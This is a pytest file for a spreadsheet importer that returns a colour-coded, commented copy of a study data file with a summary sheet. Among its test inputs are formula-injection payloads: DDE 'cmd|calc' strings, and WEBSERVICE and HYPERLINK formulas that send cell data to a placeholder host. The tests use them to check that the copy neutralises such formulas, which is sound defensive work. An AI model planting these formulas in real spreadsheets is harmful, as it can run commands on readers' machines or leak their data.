"""The annotated copy: the person's own cells, each fault coloured and told in its cell, and nothing more than they sent."""

import datetime as dt
import io
import re
import zipfile

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill

from evaluation.language import translations
from evaluation.protocol import load_protocol
from importers.annotated import copies, places
from importers.annotated.formulas import only_computes
from importers.annotated.make import annotated_copy
from importers.annotated.refusals import why_none
from importers.check import Context, check_bytes
from importers.child.sandbox import annotated_in_child, in_child
from importers.identity.texts import kinds
from importers.messages import message
from importers.sheet_style import ERROR_COLOUR, WARNING_COLOUR
from tests.test_catalogues import catalogue

PROTOCOL = load_protocol("diagnostic-accuracy")
HEAD = ["case_id", "site", "period", "reference", "score", "prediction", "start_time", "end_time"]
START = dt.datetime(2026, 1, 5, 8)
GOOD = [
    ["C1", "990000010", "avant", "oui", 0.82, 1, START, START + dt.timedelta(minutes=25)],
    ["C2", "990000010", "après", "non", 0.10, 0, START, START + dt.timedelta(minutes=30)],
    ["C3", "990000010", "après", "non", 0.20, 0, START, START + dt.timedelta(minutes=30)],
]
LINES = [
    ";".join(HEAD),
    "C1;990000010;avant;oui;0,82;1;05/01/2026 08:00;05/01/2026 08:25",
    "C2;990000010;après;non;0,10;0;06/07/2026 09:00;06/07/2026 09:30",
]


def workbook(change=lambda _: None):
    book = Workbook()
    sheet = book.active
    sheet.title = "L'étude"
    for row in (HEAD, *GOOD):
        sheet.append(row)
    change(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_of(lines):
    return ("\n".join(lines) + "\n").encode()


def annotate(content, name="f.xlsx", locale="fr"):
    report = check_bytes(content, PROTOCOL, Context(), name=name).report
    copy = annotated_copy(content, report, PROTOCOL, Context(), name=name, locale=locale)
    return report, copy, load_workbook(io.BytesIO(copy), rich_text=True) if copy else None


def colour(cell):
    return cell.fill.fgColor.rgb[-6:] if cell.fill.fill_type else None


def three_faults(book):
    sheet = book.active
    sheet["E2"], sheet["D3"], sheet["B4"] = 1.5, "peut-être", None
    sheet["I1"] = "remarque"
    sheet["I2"] = "rien"


@pytest.mark.parametrize("locale", ["fr", "en"])
def test_each_fault_is_coloured_and_told_in_its_own_cell(locale):
    report, _, book = annotate(workbook(three_faults), locale=locale)
    sheet = book["L'étude"]
    for issue in report.issues:
        cell = sheet[issue.cell or "I1"]
        assert message(issue, locale) in cell.comment.text
        assert colour(cell) == (ERROR_COLOUR if issue.severity == "error" else WARNING_COLOUR)
    assert {i.cell for i in report.issues if i.severity == "error"} == {"E2", "D3", "B4"}
    marked = {c.coordinate for row in sheet.iter_rows() for c in row if c.comment}
    assert marked == {"E2", "D3", "B4", "I1"}
    assert colour(sheet["A2"]) is None


def test_the_summary_comes_first_and_leads_to_each_cell():
    report, _, book = annotate(workbook(three_faults))
    summary = book.worksheets[0]
    assert (summary.title, book.active.title) == ("Bilan du contrôle", "Bilan du contrôle")
    assert [s.sheet_view.tabSelected for s in book.worksheets] == [True, False]
    lines = [[c.value for c in row] for row in summary.iter_rows(min_row=1)]
    text = "\n".join(str(v) for line in lines for v in line if v)
    assert "Lignes : 3. Erreurs : 3. Remarques : 1." in text
    for issue in report.issues:
        place = [["L'étude", issue.cell, issue.column]] if issue.cell else [["L'étude", "I1", issue.column]]
        assert [line[1:4] for line in lines if line[4] == message(issue, "fr")] == place
    links = {c.value: c.hyperlink.location for row in summary.iter_rows() for c in row if c.hyperlink}
    assert links["E2"] == "'L''étude'!E2"
    assert len(links) == 4


def test_their_cells_sheets_formats_and_comments_are_kept():
    def change(book):
        three_faults(book)
        sheet = book.active
        sheet["A1"].font, sheet["A1"].fill = Font(bold=True), PatternFill("solid", fgColor="00FF00")
        sheet["E3"].number_format = "0.000"
        sheet["D3"].comment = Comment("à revoir", "Moi")
        sheet.column_dimensions["A"].width = 33
        sheet.freeze_panes = "B2"
        sheet["J2"] = "=2*E2"
        sheet["J1"] = "calcul"
        hidden = book.create_sheet("Codes")
        hidden["A1"] = "F = femme"
        hidden.sheet_state = "veryHidden"

    content = with_stored_value(workbook(change))
    _report, _, book = annotate(content)
    before = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Bilan du contrôle", *before.sheetnames]
    for sheet in before.worksheets:
        same = book[sheet.title]
        assert (same.sheet_state, same.freeze_panes) == (sheet.sheet_state, sheet.freeze_panes)
        for row in sheet.iter_rows():
            for cell in row:
                kept = same[cell.coordinate]
                assert (kept.value, kept.data_type, kept.number_format) == (
                    cell.value,
                    cell.data_type,
                    cell.number_format,
                )
    assert book["L'étude"].column_dimensions["A"].width == 33
    assert book["L'étude"]["A1"].font.bold
    assert "à revoir" in book["L'étude"]["D3"].comment.text
    assert "F = femme" not in "".join(str(c.value) for row in book.worksheets[0].iter_rows() for c in row)


def with_stored_value(content):
    """As a spreadsheet saves it: each formula with its value."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            part = source.read(item)
            if item.filename.startswith("xl/worksheets/sheet"):
                part = re.sub(rb"</f><v\s*/>|</f><v></v>", b"</f><v>7</v>", part)
            target.writestr(item, part)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("formula", "stays"),
    [
        ("=SUM(E2:E4)*2", True),
        ('=IF(A2="[x|y]",1,0)', True),
        ("=_xlfn.XLOOKUP(A2,A2:A4,E2:E4)", True),
        ('=HYPERLINK("http://a.invalid/"&A2,"x")', False),
        ('=WEBSERVICE("http://a.invalid")', False),
        ("=cmd|'/c calc'!A0", False),
        ("='[other.xlsx]S'!A1", False),
        ("=SUM(", True),
    ],
)
def test_a_formula_that_calls_outside_becomes_its_stored_value(formula, stays):
    assert only_computes(formula) is stays

    def change(book):
        book.active["J1"], book.active["J2"] = "calcul", formula

    content = with_stored_value(workbook(change))
    if formula.startswith("=SUM("):
        assert (
            "formula_cached_value_used" in check_bytes(content, PROTOCOL, Context(), name="f.xlsx").report.issue_counts
        )
    cell = annotate(content)[2]["L'étude"]["J2"]
    assert (cell.value, cell.data_type) == ((formula, "f") if stays else (7, "n"))


HOSTILE = st.sampled_from(
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", '=HYPERLINK("http://a.invalid")', "_x0041_"]
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        HOSTILE | st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=12),
        min_size=8,
        max_size=8,
    ),
    st.sampled_from(["csv", "xlsx", "parquet"]),
)
def test_no_text_becomes_a_formula(cells, kind):
    header = [*HEAD[:7], HEAD[7], "=2+2"]
    row = [*cells, "=3+3"]
    if kind == "csv":
        quoted = (";".join('"' + v.replace('"', '""') + '"' for v in line) for line in (header, row))
        content = csv_of(quoted)
    elif kind == "xlsx":
        book = Workbook()
        for number, line in enumerate((header, row), start=1):
            for column, text in enumerate(line, start=1):
                cell = book.active.cell(number, column)
                cell.value, cell.data_type = text, "s"
        buffer = io.BytesIO()
        book.save(buffer)
        content = buffer.getvalue()
    else:
        buffer = io.BytesIO()
        pl.DataFrame([row], schema=header, orient="row").write_parquet(buffer)
        content = buffer.getvalue()
    report, copy, book = annotate(content, f"f.{kind}")
    if copy is None:
        assert report.table is None or "identifying_data" in report.issue_counts
        return
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        parts = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(re.search(rb"<f[ >/]", part) for part in parts)
    assert not any(c.data_type == "f" for s in book.worksheets for r in s.iter_rows() for c in r)
    assert all(c.hyperlink.target is None for s in book.worksheets for r in s.iter_rows() for c in r if c.hyperlink)
    if any(cells):
        shown = {c.value for r in book.worksheets[1].iter_rows() for c in r}
        assert "=3+3" in shown


@pytest.mark.parametrize("name", ["f.csv", "f.parquet"])
def test_rows_of_a_text_file_stand_at_their_own_numbers_as_they_were_written(name):
    lines = [
        "Étude;;;;;;;",
        *LINES,
        "",
        "C3;990000010;après;non;bof;0;06/07/2026 09:00;06/07/2026 09:30",
        "Total;;;;12;;;",
    ]
    content = csv_of(lines)
    if name == "f.parquet":
        rows = [line.split(";") for line in [*LINES[1:], lines[5]]]
        buffer = io.BytesIO()
        pl.DataFrame(rows, schema=HEAD, orient="row").write_parquet(buffer)
        content = buffer.getvalue()
    report, _copy, book = annotate(content, name)
    sheet = book["Cas"]
    fault = next(i for i in report.issues if i.code == "invalid_number")
    bad = next(c for row in sheet.iter_rows() for c in row if c.value == "bof")
    assert message(fault, "fr") in bad.comment.text
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value is not None)
    assert {c.number_format for row in sheet.iter_rows() for c in row if c.value is not None} == {"@"}
    if name == "f.csv":
        assert (fault.cell, bad.coordinate, sheet["A1"].value, sheet["E7"].value) == ("E6", "E6", "Étude", "12")
        for number, line in enumerate(lines, start=1):
            assert [c.value or "" for c in sheet[number]] == (line.split(";") if line else [""] * 8)


def test_a_copy_that_comes_back_mended_is_accepted_without_a_word():
    _, _copy, book = annotate(workbook(three_faults))
    sheet = book["L'étude"]
    sheet["E2"], sheet["D3"], sheet["B4"], sheet["I1"], sheet["I2"] = 0.5, "oui", "990000010", None, None
    buffer = io.BytesIO()
    book.save(buffer)
    back = check_bytes(buffer.getvalue(), PROTOCOL, Context(), name="f.xlsx").report
    assert (back.outcome, back.rows) == ("accept", 3)
    again = annotate(buffer.getvalue())[2]
    assert again.sheetnames == book.sheetnames
    assert not [c for row in again["L'étude"].iter_rows() for c in row if c.comment or colour(c)]


def test_a_copy_sent_back_as_it_is_has_the_same_faults():
    report, copy, _ = annotate(workbook(three_faults))
    again = check_bytes(copy, PROTOCOL, Context(), name="f.xlsx").report
    assert again.issue_counts == report.issue_counts
    assert [(i.code, i.cell) for i in again.issues] == [(i.code, i.cell) for i in report.issues]


def test_a_workbook_that_already_has_a_sheet_of_that_name_keeps_it():
    def change(book):
        three_faults(book)
        book.create_sheet("Bilan du contrôle")["A1"] = "le mien"

    assert annotate(workbook(change))[2].sheetnames == ["Bilan du contrôle (2)", "L'étude", "Bilan du contrôle"]


def test_a_fault_in_merged_cells_is_told_on_the_first_of_them():
    def change(book):
        book.active["B4"] = None
        book.active.merge_cells("B2:B4")

    report, _, book = annotate(workbook(change))
    assert {i.cell for i in report.issues} > {"B4"}
    assert {c.coordinate for row in book["L'étude"].iter_rows() for c in row if c.comment} == {"B2"}
    assert all(message(i, "fr") in book["L'étude"]["B2"].comment.text for i in report.issues if i.cell)


def test_a_file_that_identifies_people_has_no_copy():
    content = csv_of([LINES[0] + ";contact", *(line + ";a.martin@exemple.invalid" for line in LINES[1:])])
    report, copy, _ = annotate(content, "f.csv")
    assert (report.reason, copy) == ("identifying_data", None)
    assert "identifie des personnes" in why_none(report, "fr")
    nothing = check_bytes(b"%PDF-1.4", PROTOCOL, Context(), name="f.csv").report
    assert annotated_copy(b"%PDF-1.4", nothing, PROTOCOL, Context(), name="f.csv") is None
    assert "no table was read" in why_none(nothing, "en")


def test_a_large_file_is_bounded_and_says_so(monkeypatch):
    monkeypatch.setattr(copies, "CELLS", 100)
    monkeypatch.setattr(places, "EACH", 3)
    lines = [LINES[0]] + [LINES[1].replace("C1;", f"C{i};") for i in range(60)]
    for row in (5, 10, 15, 20, 25):
        lines[row - 1] = lines[row - 1].replace("0,82", "bof")
    report, _, book = annotate(csv_of(lines), "f.csv")
    assert report.issue_counts == {"invalid_number": 5}
    sheet = book["Cas"]
    assert {c.coordinate for row in sheet.iter_rows() for c in row if c.comment} == {"E5", "E10", "E15"}
    assert {row for row in range(1, 62) if sheet.cell(row, 1).value} == {1, 5, 10, 15}
    text = "\n".join(str(c.value) for row in book.worksheets[0].iter_rows() for c in row if c.value)
    assert "Erreurs : 5." in text
    assert "et 2 autres comme celle de E5" in text
    assert "seules les lignes en faute" in text
    whole = annotate(workbook(lambda book: [book.active.append(GOOD[0]) for _ in range(60)]))
    assert whole[2].sheetnames == ["Bilan du contrôle", "Cas"]  # a large workbook is copied likewise


def test_the_child_writes_the_copy_and_the_same_report(tmp_path):
    path, out = tmp_path / "f.xlsx", tmp_path / "out.xlsx"
    path.write_bytes(workbook(three_faults))
    plain, marked = in_child(path, PROTOCOL, Context()), annotated_in_child(path, PROTOCOL, Context(), out)
    assert plain.report == marked.report
    assert load_workbook(out).sheetnames[0] == "Bilan du contrôle"
    path.write_bytes(b"%PDF-1.4")
    out.unlink()
    assert annotated_in_child(path, PROTOCOL, Context(), out).report.table is None
    assert not out.exists()


def test_the_report_lists_as_many_faults_with_a_copy_as_without(tmp_path):
    path, out = tmp_path / "f.csv", tmp_path / "out.xlsx"
    bad = LINES[1].replace("0,82", "bof").replace("oui", "ouais")
    path.write_bytes(csv_of([LINES[0], *(bad.replace("C1;", f"C{i};") for i in range(300))]))
    plain, marked = in_child(path, PROTOCOL, Context()), annotated_in_child(path, PROTOCOL, Context(), out)
    assert plain.report == marked.report
    assert len(plain.report.issues) == 100
    sheet = load_workbook(out)["Cas"]
    assert sum(c.comment is not None for row in sheet.iter_rows() for c in row) == 400


@pytest.mark.parametrize("locale", ["fr", "en"])
def test_no_sentence_of_ours_looks_like_an_identity_when_it_comes_back(locale):
    class Anything(dict):
        def __missing__(self, name):
            return "Identifiant"

    say = translations("importers", locale).gettext
    sentences = [say(entry.id).format_map(Anything()) for entry in catalogue("importers") if entry.id]
    assert len(sentences) > 100
    assert kinds(pl.Series(sentences)) is None


def test_a_fault_of_a_header_that_is_not_repeated_stands_at_its_header():
    lines = [LINES[0] + ";Lefebvre", *(line + ";oui" for line in LINES[1:])]
    report, _, book = annotate(csv_of(lines), "f.csv")
    assert ("unknown_column_ignored", "I") in [(issue.code, issue.column) for issue in report.issues]
    assert WARNING_COLOUR in [colour(sheet["I1"]) for sheet in book.worksheets]
